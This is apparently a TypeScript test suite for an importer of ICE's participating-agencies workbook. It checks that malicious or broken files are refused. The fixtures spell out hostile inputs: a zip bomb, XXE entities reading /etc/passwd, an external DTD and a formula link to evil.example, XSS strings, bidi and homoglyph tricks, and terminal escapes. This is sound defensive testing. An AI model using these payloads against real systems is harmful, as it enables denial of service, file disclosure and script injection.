// Workbooks made to do harm, and broken ones: each is refused with a reason, or read for what it is.
import { readdirSync } from 'node:fs'
import * as XLSX from '@e965/xlsx'
import { unzipSync, type Zippable, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { largestUnpacked, openArchive } from '../../scripts/import/archive.ts'
import { readWorkbook } from '../../scripts/import/workbook.ts'
import { describeProblems } from '../../src/problems.ts'
import { header, link, list, project, row, serial, workbook } from './project.ts'

const read = (bytes: Uint8Array) => readWorkbook(bytes, 'list.xlsx')
const refusal = (bytes: Uint8Array) => describeProblems(read(bytes).problems)

/** A workbook of one row with parts added to it or put in the place of its own. */
function withParts(parts: Zippable, options: Parameters<typeof zipSync>[1] = {}): Uint8Array {
  return zipSync({ ...unzipSync(list(row())), ...parts }, options)
}
const text = (words: string) => new TextEncoder().encode(words)

describe('an archive', () => {
  const bomb = withParts({ 'xl/media/bomb.xml': new Uint8Array(largestUnpacked + 1) }, { level: 1 })

  test('that unpacks to far more than a list can need is refused before it is unpacked', () => {
    expect(bomb.length).toBeLessThan(400_000)
    expect(refusal(bomb)).toBe(
      'list.xlsx  unpacks to more than 48 MB; the list has never had 2 MB\n' +
        '    it is no publication of the list: download the workbook again from ICE’s page',
    )
  })

  test('that says it is small and is not is caught while it is unpacked', () => {
    const lying = Buffer.from(bomb)
    const claimed = Buffer.alloc(4)
    claimed.writeUInt32LE(largestUnpacked + 1)
    for (let at = lying.indexOf(claimed); at >= 0; at = lying.indexOf(claimed)) lying.writeUInt32LE(1000, at)
    const before = process.memoryUsage().arrayBuffers
    expect(refusal(lying)).toContain('unpacks to more than 48 MB')
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(4 * largestUnpacked)
  })

  test('of very many parts, or with two of one name, or with one that its contents do not name, is refused', () => {
    const many = Object.fromEntries(Array.from({ length: 1001 }, (_, at) => [`xl/${at}.xml`, text('<a/>')]))
    expect(refusal(withParts(many, { level: 0 }))).toMatch(/^list\.xlsx {2}has 1\d{3} parts; expected at most 1000/)
    const twins = Buffer.from(withParts({ 'xl/aa.xml': text('<a/>'), 'xl/ab.xml': text('<b/>') }))
    const doubled = Buffer.from(twins.toString('latin1').replaceAll('xl/ab.xml', 'xl/aa.xml'), 'latin1')
    expect(refusal(doubled)).toContain('whose table of contents does not say what is in it')
    const lying = Buffer.from(twins.toString('latin1').replace('xl/ab.xml', 'xl/ac.xml'), 'latin1')
    expect(refusal(lying)).toContain('whose table of contents does not say what is in it')
  })

  test('keeps what is no XML, such as macros and pictures, from the reader', () => {
    const opened = openArchive(
      withParts({ 'xl/vbaProject.bin': text('Sub AutoOpen()'), 'xl/media/a.png': text('PNG') }),
    )
    const names = 'parts' in opened ? Object.keys(unzipSync(opened.parts)) : []
    expect(names).toContain('xl/workbook.xml')
    expect(names.filter((name) => !/\.(xml|rels)$/.test(name))).toEqual([])
  })
})

describe('XML', () => {
  const sheet = new TextDecoder().decode(unzipSync(list(row()))['xl/worksheets/sheet1.xml'])
  const entities: Record<string, string> = {
    'entities that multiply': `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${sheet}`,
    'an entity of another file': `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${sheet.replace('TEXAS', '&a;')}`,
    'a document type from elsewhere': `<!doctype x SYSTEM "http://evil.example/x.dtd">${sheet}`,
  }
  test.for(Object.entries(entities))('with %s is refused, whatever part it stands in', ([, xml]) => {
    for (const part of ['xl/worksheets/sheet1.xml', 'xl/_rels/workbook.xml.rels', '[Content_Types].xml']) {
      expect(refusal(withParts({ [part]: text(xml) }))).toContain(
        `list.xlsx  has a part ${part} with a document type, which can hide entities`,
      )
    }
  })

  test('in two bytes a letter, in which a document type could hide, is refused', () => {
    const wide = Buffer.from(`\ufeff${entities['an entity of another file']}`, 'utf16le')
    expect(refusal(withParts({ 'xl/worksheets/sheet1.xml': wide }))).toContain('that is not XML in UTF-8')
  })

  test.for([
    [
      'a row far below the last that a sheet can have',
      sheet.replace('<row r="2"', '<row r="4000000000"'),
      'a cell or row at 4000000000',
    ],
    ['a cell far beside', sheet.replace('r="B2"', "r='ZZZZZZZ2'"), 'a cell or row at ZZZZZZZ2'],
    [
      'a link over every cell there can be',
      sheet.replace(
        '</sheetData>',
        '</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="x"/></hyperlinks>',
      ),
      'a link over the cells A1:XFD1048576; expected one cell',
    ],
    [
      'a link over no cells',
      sheet.replace('</sheetData>', '</sheetData><x:hyperlink location="x"/>'),
      'a link over the cells ; expected one cell',
    ],
  ] as const)('with %s, for which the reader would fill the memory, is refused', ([, xml, told]) => {
    expect(refusal(withParts({ 'xl/worksheets/sheet1.xml': text(xml) }))).toContain(
      `list.xlsx  has a part xl/worksheets/sheet1.xml with ${told}`,
    )
  })

  test('that is cut off, or none at all, gives no list', () => {
    for (const xml of [sheet.slice(0, sheet.length / 2), '', 'hello', '<worksheet/>']) {
      const { rows, problems } = read(withParts({ 'xl/worksheets/sheet1.xml': text(xml) }))
      expect(rows.length === 0 ? problems.length : rows.length).toBe(1)
    }
  })
})

test('a spreadsheet of another format, which the reader would take as well, is no publication of the list', () => {
  for (const bookType of ['ods', 'xlsb'] as const) {
    const bytes = XLSX.write(XLSX.read(list(row())), { type: 'buffer', bookType }) as Buffer
    expect(refusal(bytes)).toContain('list.xlsx  is a zip archive and no xlsx workbook: it has no part xl/workbook.xml')
  }
})

test('a workbook with a password is told from an old one', () => {
  const locked = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')])
  expect(refusal(locked)).toBe(
    'list.xlsx  is locked with a password; expected an open xlsx workbook\n' +
      '    open it in a spreadsheet program and save a copy without the password',
  )
})

test('a quarter of a million blank rows between two agreements are no rows', () => {
  const xml = new TextDecoder().decode(unzipSync(list(row(), row()))['xl/worksheets/sheet1.xml'])
  const at = xml.indexOf('<row r="3"')
  const blank = Array.from({ length: 250_000 }, (_, index) => `<row r="${index + 3}"/>`).join('')
  const last = xml.slice(at).replaceAll(/(r="[A-Z]*)3"/g, '$1250003"')
  const { rows, problems, extent } = read(
    withParts({ 'xl/worksheets/sheet1.xml': text(xml.slice(0, at) + blank + last) }),
  )
  expect(problems).toEqual([])
  expect(rows.map(({ line }) => line)).toEqual([2, 250_003])
  expect(extent).toBe(250_002)
})

test('a list on a hidden sheet is no publication, and beside another list it is named as hidden', () => {
  const hide = (sheets: Parameters<typeof workbook>[0], hidden: string) => {
    const book = XLSX.read(workbook(sheets))
    book.Workbook = { Sheets: book.SheetNames.map((name) => ({ name, Hidden: name === hidden ? 1 : 0 })) }
    return XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
  }
  expect(refusal(hide({ Old: [header, row()], Notes: [['x']] }, 'Old'))).toContain(
    'list.xlsx  sheet "Old" holds the list and is hidden, so that nobody who opens the file sees it',
  )
  expect(refusal(hide({ May: [header, row()], Old: [header, row()] }, 'Old'))).toContain(
    'has 2 sheets that look like the list: May, Old (hidden)',
  )
  expect(read(hide({ May: [header, row()], Notes: [['x']] }, 'Notes')).rows).toHaveLength(1)
})

test('two columns of one name are refused: which of them is the list’s, nobody can know', () => {
  const bytes = workbook({
    Sheet1: [
      [...header, 'STATE'],
      [...row(), 'UTAH'],
    ],
  })
  expect(refusal(bytes)).toBe(
    'list.xlsx:1  sheet "Sheet1" has more than one column STATE\n' +
      '    delete the one that is not the list’s from a copy of the file',
  )
})

describe('an import', () => {
  const name = 'participatingAgencies05012025am.xlsx'
  const refused = (value: Parameters<typeof row>[0]) => project().refuse({ [name]: list(row(), row(value)) })

  test.for([
    ['HTML', '<img src=x onerror=alert(1)> Police', 'holds “<” (U+003C) in "<img src=x onerror=alert(1)> Police"'],
    ['a formula', '=HYPERLINK("http://evil.example")', 'holds “=” (U+003D)'],
    ['a formula behind a sign', '+1 Police Department', 'begins with “+” (U+002B) in "+1 Police Department"'],
    ['a formula behind an at', '@SUM(A1) Police', 'holds “@” (U+0040)'],
    ['marks that turn letters round', 'Lake \u202ePolice', 'holds U+202E in "Lake U+202EPolice"'],
    ['a null byte', 'Lake\u0000 Police', 'holds'],
    ['an escape of the terminal', 'Lake \u001b[2J Police', 'holds'],
    ['letters that only look Latin', 'Lаke Police', 'holds “а” (U+0430)'],
    ['no letter at all', '12345', 'holds "12345", which has no letter'],
    [
      'ten thousand letters',
      'Lake '.repeat(2000),
      'holds 9999 letters ("Lake Lake Lake Lake Lake Lake Lake Lake …"); the longest name may have 200',
    ],
  ] as const)('refuses a name with %s, with its file, row and column', ([, agency, told]) => {
    const message = refused({ agency })
    expect(message).toContain(`${name}:3  LAW ENFORCEMENT AGENCY ${told}`)
    // What is told on a terminal cannot move its cursor or turn its letters round.
    expect([...message].filter((letter) => (letter < ' ' && letter !== '\n') || letter === '\u202e')).toEqual([])
    expect(refused({ county: agency })).toContain(`${name}:3  COUNTY ${told}`)
  })

  test('refuses days that no agreement can bear', () => {
    for (const signed of [0, -5, 99_999_999, 1e300, serial('2030-01-01'), '31/31/2025', '2025-02-30', true as never]) {
      expect(refused({ signed })).toMatch(new RegExp(`^${name}:3  SIGNED holds "[^"]`))
    }
  })

  test('reads what nobody sees in a name as if it were not there, and says so: it makes no other agency', () => {
    const made = project()
    const { notes, history } = made.import({
      [name]: list(row(), row({ agency: '\ufeffLake\u200b County\u00a0\n Sher\u00adiff\u2019s Off\u200dice\u200e' })),
    })
    expect(history.agreements.size).toBe(1)
    expect(notes).toEqual(
      [
        `${name}:3: LAW ENFORCEMENT AGENCY is read without U+FEFF and U+200B and U+00AD and U+200D and U+200E, which nobody sees`,
      ].map((note) => expect.stringContaining(note)),
    )
    expect(made.read().agencies.map(({ agency }) => agency)).toEqual(['Lake County Sheriff’s Office'])
  })

  test('takes a link for what it is only where it is an address of the web, and says where it is not', () => {
    const links = [
      'javascript:alert(1)',
      'https://www.ice.gov/"onmouseover="alert(1)',
      'https://x.safelinks.protection.outlook.com/?url=%E0%A4%A',
      'file:///etc/passwd',
    ]
    const made = project()
    const agencies = ['Milltown Police Department', 'Milltown Marshal', 'Fort Lake Marshal', 'Milltown Constable']
    const { notes } = made.import({
      [name]: list(...links.map((target, at) => row({ agency: agencies[at]!, moa: link(target) }))),
    })
    expect(made.read().agreements.flatMap(({ moa_url }) => moa_url ?? [])).toEqual([links[2]])
    expect(notes.filter((note) => note.includes('is no address of the web'))).toHaveLength(3)
  })

  test('names a folder called .xlsx, and leaves nothing behind of any refusal', () => {
    const made = project()
    const before = made.bytes()
    expect(() => made.import({ [name]: list(row({ agency: '<b>' })) })).toThrow()
    expect(made.bytes()).toEqual(before)
    expect(readdirSync(`${made.path}/data`).filter((file) => file.startsWith('.'))).toEqual([])
  })
})
